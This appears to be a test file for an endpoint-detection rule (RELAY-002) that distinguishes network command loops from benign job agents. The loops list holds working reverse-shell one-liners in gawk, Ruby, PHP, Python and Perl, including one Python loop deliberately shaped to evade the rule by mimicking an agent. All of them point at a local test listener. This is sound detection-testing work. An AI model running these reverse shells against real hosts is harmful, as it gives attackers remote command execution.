/**
 * Command loops, as the threat model reads (issue 26, "command loops on by default"): a process
 * holds a connection to its operator, reads a command line from it, runs it and writes the output
 * back on the same connection. No shell reads the connection, so only RELAY-002 (the command
 * relay) can see them. Against them, in the same session, the job agents that run `sh -c` jobs
 * fetched over the network: the benign shape the rule would have to leave quiet to be on by
 * default.
 *
 * Two engines are fed the same events: the default configuration, and every default rule plus
 * RELAY-002. Each loop must give exactly one finding across all rules of the second, and the
 * agents' findings are the measurement behind RELAY-002 staying opt-in (docs/rules/RELAY-002.md,
 * "Measured: why it stays off"): the agent on its kept-alive connection has every structural
 * property the loops have, so turning the rule on by default would take the benign corpus off zero.
 *
 * Interpreters come from scripts/packages.sh (test list, setup.sh --dev); a host without one
 * asserts its absence, and CI (which installs them) fails instead.
 */
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { builtinRules, type Finding, type SensorEvent } from "sockeye";
import { PYTHON, Session, attachEngine, commandingListener, inCI, kernelTier, run } from "./harness.js";

const tier = kernelTier();

interface PortedFinding extends Finding {
  destination?: { port: number };
  sockeye: Finding["sockeye"] & { command_relay?: { program: { name: string }; commands: { args: string[] }[] } };
}

/** Is the interpreter here and working? (a package's binary can be present but broken). */
const works = (program: string, probe: string[]) =>
  existsSync(program) && spawnSync(program, probe, { stdio: "ignore", timeout: 10_000 }).status === 0;

/**
 * What the sensor's records say about one connection's loop, the candidate evidence for telling
 * a command loop from a job agent: how the program was given (inline on its command line or a
 * file), its own stdio, who started it, how old the connection was at the first command, and the
 * commands' stdin and stdout.
 */
function evidence(events: readonly SensorEvent[], port: number) {
  // The latest connect to the port: an earlier case's listener may have had the same number.
  const out = [...events].reverse().find((e) => e.kind === "outbound" && e.remote.port === port);
  if (out === undefined || out.kind !== "outbound") return undefined;
  const holder = out.task;
  const own = events.find((e) => e.kind === "exec" && e.task.pid === holder.pid && e.task.startNs === holder.startNs && e.timeNs <= out.timeNs);
  const children = events.filter((e) => e.kind === "exec" && e.task.ppid === holder.pid && e.timeNs > out.timeNs);
  const first = children[0];
  const kindOf = (e: SensorEvent | undefined, fd: number) => (e?.kind === "exec" && e.stdio !== null ? e.stdio[fd]!.kind : "?");
  return {
    program: holder.comm,
    inline: own?.kind === "exec" ? own.args.slice(1).some((a) => ["-c", "-e", "-r"].includes(a) || a.startsWith("BEGIN")) : "?",
    stdio: [0, 1, 2].map((fd) => kindOf(own, fd)).join("/"),
    parent: holder.parentComm,
    connectionAgeMsAtFirstCommand: first === undefined ? null : Math.round((first.timeNs - out.timeNs) / 1e6),
    commands: children.length,
    commandStdin: kindOf(first, 0),
    commandStdout: kindOf(first, 1),
  };
}

describe.runIf(tier.run)("kernel: command loops (RELAY-002) against job agents, one session", () => {
  let session: Session;
  /** The default configuration: RELAY-002 off. */
  const defaults: PortedFinding[] = [];
  /** Every default rule plus RELAY-002. */
  const withRelay002: PortedFinding[] = [];
  const measured: Record<string, unknown>[] = [];
  /** The evidence records, by case. */
  const evidenceOf = new Map<string, ReturnType<typeof evidence>>();
  const measure = (name: string, port: number, found: { defaults: PortedFinding[]; withRelay002: PortedFinding[] }) => {
    const e = evidence(session.events, port);
    evidenceOf.set(name, e);
    measured.push({ case: name, defaults: found.defaults.map((f) => f.rule.id), withRelay002: found.withRelay002.map((f) => f.rule.id), ...e });
  };

  beforeAll(async () => {
    session = await Session.open();
    attachEngine(session, defaults);
    attachEngine(session, withRelay002, builtinRules({ commandRelay: true }));
  });
  afterAll(() => {
    console.log(`command loops vs job agents (issue 26):\n${measured.map((m) => JSON.stringify(m)).join("\n")}`);
    session?.close();
  });

  let mark = { defaults: 0, withRelay002: 0 };
  beforeEach(() => {
    mark = { defaults: defaults.length, withRelay002: withRelay002.length };
  });
  const onPort = (port: number) => ({
    defaults: defaults.slice(mark.defaults).filter((f) => f.destination?.port === port),
    withRelay002: withRelay002.slice(mark.withRelay002).filter((f) => f.destination?.port === port),
  });

  /**
   * The loops. The listener sends `id`, waits for uid=, sends `uname -s`, waits for Linux, then
   * `exit`. Commands without shell metacharacters: where a language runs them through `sh -c`
   * anyway (popen(3), shell=True, a line still ending in its newline), RELAY-002 sees them.
   */
  const loops: { name: string; program: string; probe: string[]; relay: string; cmd: (h: string, p: number) => string[]; direct?: boolean; noShell?: boolean }[] = [
    {
      name: "gawk /inet/tcp with cmd |& getline",
      program: "/usr/bin/gawk", probe: ["BEGIN { exit 0 }"], relay: "gawk",
      cmd: (h, p) => ["/usr/bin/gawk", `BEGIN { s = "/inet/tcp/0/${h}/${p}"; while ((s |& getline c) > 0) { if (c == "exit") break; while ((c |& getline line) > 0) print line |& s; close(c) } }`],
    },
    {
      name: "ruby: IO.popen(line) on the socket it holds (the line as read, newline and all)",
      program: "/usr/bin/ruby", probe: ["-e", "nil"], relay: "ruby",
      cmd: (h, p) => ["/usr/bin/ruby", "-rsocket", "-e", `c = TCPSocket.new("${h}", ${p}); while (l = c.gets); break if l.chomp == "exit"; IO.popen(l, "r") { |io| c.print io.read }; end`],
    },
    {
      name: "php: fwrite($s, shell_exec(fgets($s)))",
      program: "/usr/bin/php", probe: ["-r", ";"], relay: "php",
      cmd: (h, p) => ["/usr/bin/php", "-r", `$s = fsockopen("${h}", ${p}); while (($c = fgets($s)) !== false) { if (trim($c) == "exit") break; fwrite($s, shell_exec($c)); }`],
    },
    {
      name: "python: socket recv + subprocess (shell=True)",
      program: PYTHON, probe: ["-c", "pass"], relay: "python3",
      cmd: (h, p) => [PYTHON, "-c", `import socket, subprocess
s = socket.create_connection(("${h}", ${p}))
while True:
    c = s.recv(1024).decode()
    if not c or c.strip() == "exit": break
    s.sendall(subprocess.run(c, shell=True, capture_output=True).stdout)`],
    },
    // The python loop written by someone who read the rules and the agents below: its commands'
    // stdin is /dev/null and it idles on its connection before reading, as agent (c) does. Run
    // without `timeout`, so its parent is the test runner, as the agents' is.
    {
      name: "python, shaped like agent (c): stdin /dev/null, an idle connection before the first command",
      program: PYTHON, probe: ["-c", "pass"], relay: "python3", direct: true,
      cmd: (h, p) => [PYTHON, "-c", `import socket, subprocess, time
s = socket.create_connection(("${h}", ${p}))
time.sleep(2)
f = s.makefile("r")
while True:
    c = f.readline().strip()
    if not c or c == "exit": break
    s.sendall(subprocess.run(["/bin/sh", "-c", c], stdin=subprocess.DEVNULL, capture_output=True).stdout)`],
    },
    // revshells.com's "Ruby no sh": the line chomped, so IO.popen execs `id` itself, no shell;
    // perl's backticks do the same for a line without shell metacharacters.
    {
      name: "ruby no sh (revshells.com): IO.popen of the chomped line, no shell",
      program: "/usr/bin/ruby", probe: ["-e", "nil"], relay: "ruby", noShell: true,
      cmd: (h, p) => ["/usr/bin/ruby", "-rsocket", "-e", `c = TCPSocket.new("${h}", ${p}); loop { c.gets.chomp!; (exit! if $_ == "exit"); IO.popen($_, ?r) { |io| c.print io.read } }`],
    },
    {
      name: "perl: backticks of the chomped line, no shell",
      program: "/usr/bin/perl", probe: ["-e", "1"], relay: "perl", noShell: true,
      cmd: (h, p) => ["/usr/bin/perl", "-MIO::Socket::INET", "-e", `$s = IO::Socket::INET->new(PeerAddr => "${h}:${p}") or die; while (defined($c = <$s>)) { chomp $c; last if $c eq "exit"; print $s \`$c\` }`],
    },
  ];

  for (const loop of loops) {
    const present = works(loop.program, loop.probe);
    if (!present && inCI) throw new Error(`command loops: ${loop.program} is missing in CI (bash scripts/setup.sh --dev installs it: scripts/packages.sh)`);
    if (!present) {
      it(`${loop.name}: not installed here (${loop.program})`, () => {
        expect(works(loop.program, loop.probe)).toBe(false);
      });
      continue;
    }
    it(`${loop.name}: no default finding; with RELAY-002, exactly one finding across every rule`, async () => {
      const listener = await commandingListener("127.0.0.1", { commands: [["id", "uid="], ["uname -s", "Linux"]] });
      try {
        const [program, ...args] = loop.cmd("127.0.0.1", listener.port);
        const r = loop.direct === true ? await run(program!, args) : await run("timeout", ["-s", "KILL", "20", program!, ...args]);
        expect(await listener.answered, `${loop.name}: no answer: ${r.stderr}`).toBe(true);
        await session.settle();
        const found = onPort(listener.port);
        measure(`loop: ${loop.name}`, listener.port, found);
        expect(found.defaults.map((f) => f.rule.id), "the default configuration misses command loops (RELAY-002 is opt-in)").toEqual([]);
        expect(found.withRelay002.map((f) => f.rule.id)).toEqual(["RELAY-002"]);
        const f = found.withRelay002[0]!;
        expect(f.sockeye.command_relay!.program.name).toBe(loop.relay);
        const commands = f.sockeye.command_relay!.commands.map((c) => c.args);
        if (loop.noShell === true) expect(commands).toEqual([["id"], ["uname", "-s"]]);
        else expect(commands.map((a) => [a[0]!.replace(/^.*\//, ""), a[1]])).toEqual([["sh", "-c"], ["sh", "-c"]]);
      } finally {
        await listener.close();
      }
    }, 40_000);
  }

  /**
   * The benign side: job agents, as in test/kernel/benign.test.ts. (a) a long-lived agent that
   * connected long before its first job and polls its kept-alive HTTP connection; (b) one that
   * connects per job; (c) an agent on a raw TCP connection that runs each line it is sent with
   * `sh -c` (stdin /dev/null) and writes the output back: the python loop above, as an agent.
   */
  const jobServer = async () => {
    const jobs = ["uname -s", "echo $((6*7))", "id -u"];
    const queue = [...jobs];
    const results: string[] = [];
    const server = http.createServer((req, res) => {
      let body = "";
      req.on("data", (d: Buffer) => (body += d.toString()));
      req.on("end", () => {
        if (req.url === "/result") results.push(body.trim());
        res.end(req.url === "/job" ? (queue.shift() ?? "") : "ok");
      });
    });
    server.keepAliveTimeout = 60_000;
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return { port: (server.address() as net.AddressInfo).port, results, close: () => new Promise((resolve) => server.close(resolve)) };
  };

  it("job agent (a): an old kept-alive HTTP connection polled, jobs run with sh -c, output posted back: default quiet, RELAY-002 fires", async () => {
    const server = await jobServer();
    try {
      const agent = await run(PYTHON, ["-c", `
import http.client, subprocess, time
c = http.client.HTTPConnection("127.0.0.1", ${server.port}); c.connect()
time.sleep(2)  # the connection is old by the first job
for _ in range(3):
    c.request("GET", "/job"); job = c.getresponse().read().decode()
    out = subprocess.run(["/bin/sh", "-c", job], stdin=subprocess.DEVNULL, capture_output=True).stdout
    c.request("POST", "/result", body=out); c.getresponse().read()
    time.sleep(0.3)
time.sleep(2)  # a live agent: the rule reads /proc of the holder, on a loaded host too
`]);
      expect(agent.status, agent.stderr).toBe(0);
      expect(server.results).toEqual(["Linux", "42", "0"]);
      await session.settle();
      const found = onPort(server.port);
      measure("agent (a) kept-alive", server.port, found);
      expect(found.defaults).toEqual([]);
      // The measurement: the same finding as the loops, by the same evidence.
      expect(found.withRelay002.map((f) => f.rule.id)).toEqual(["RELAY-002"]);
    } finally {
      await server.close();
    }
  }, 40_000);

  it("job agent (b): a connection per job, jobs run with busybox sh -c: quiet with RELAY-002 too", async () => {
    const server = await jobServer();
    const busybox = works("/bin/busybox", ["true"]) ? `["/bin/busybox", "sh", "-c", job]` : `["/bin/sh", "-c", job]`;
    try {
      const agent = await run(PYTHON, ["-c", `
import http.client, subprocess, time
for _ in range(3):
    c = http.client.HTTPConnection("127.0.0.1", ${server.port}); c.request("GET", "/job"); job = c.getresponse().read().decode(); c.close()
    out = subprocess.run(${busybox}, stdin=subprocess.DEVNULL, capture_output=True).stdout
    c = http.client.HTTPConnection("127.0.0.1", ${server.port}); c.request("POST", "/result", body=out); c.getresponse().read(); c.close()
    time.sleep(0.3)
time.sleep(2)  # a live agent: the rule reads /proc of the holder, on a loaded host too
`]);
      expect(agent.status, agent.stderr).toBe(0);
      expect(server.results).toEqual(["Linux", "42", "0"]);
      await session.settle();
      const found = onPort(server.port);
      measure("agent (b) per job", server.port, found);
      expect(found.defaults).toEqual([]);
      expect(found.withRelay002).toEqual([]);
    } finally {
      await server.close();
    }
  }, 40_000);

  it("job agent (c): a raw TCP connection, each line run with sh -c and the output written back: default quiet, RELAY-002 fires", async () => {
    const results: string[] = [];
    const server = net.createServer((s) => {
      s.on("error", () => {});
      // The agent idles on its connection before the first job, as a service waiting for work.
      setTimeout(() => s.write("uname -s\necho $((6*7))\n"), 2_000);
      s.on("data", (d: Buffer) => results.push(d.toString()));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const agent = await run(PYTHON, ["-c", `
import socket, subprocess, time
s = socket.create_connection(("127.0.0.1", ${port}))
f = s.makefile("r")
for _ in range(2):
    job = f.readline().strip()
    s.sendall(subprocess.run(["/bin/sh", "-c", job], stdin=subprocess.DEVNULL, capture_output=True).stdout)
time.sleep(2)  # a live agent: the rule reads /proc of the holder, on a loaded host too
`]);
      expect(agent.status, agent.stderr).toBe(0);
      expect(results.join("")).toBe("Linux\n42\n");
      await session.settle();
      const found = onPort(port);
      measure("agent (c) raw TCP lines", port, found);
      expect(found.defaults).toEqual([]);
      expect(found.withRelay002.map((f) => f.rule.id)).toEqual(["RELAY-002"]);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  }, 40_000);

  /**
   * The measurement: every piece of evidence the sensor records about a loop, compared between
   * agent (c) and the python loop written to look like it. Were any of them to differ by
   * something the attacker cannot choose, RELAY-002 could use it to leave agents quiet.
   */
  it("the evidence: agent (c) and the loop shaped like it agree on everything the sensor records", () => {
    const agent = evidenceOf.get("agent (c) raw TCP lines");
    const loop = evidenceOf.get("loop: python, shaped like agent (c): stdin /dev/null, an idle connection before the first command");
    expect(agent, "agent (c) ran").toBeDefined();
    expect(loop, "the shaped python loop ran").toBeDefined();
    const { connectionAgeMsAtFirstCommand: agentAge, ...agentRest } = agent!;
    const { connectionAgeMsAtFirstCommand: loopAge, ...loopRest } = loop!;
    expect(loopRest).toEqual(agentRest);
    // Both idled on their connection (2 s) before the first command; a delay is no evidence.
    expect(agentAge).toBeGreaterThanOrEqual(1_500);
    expect(loopAge).toBeGreaterThanOrEqual(1_500);
  });
});
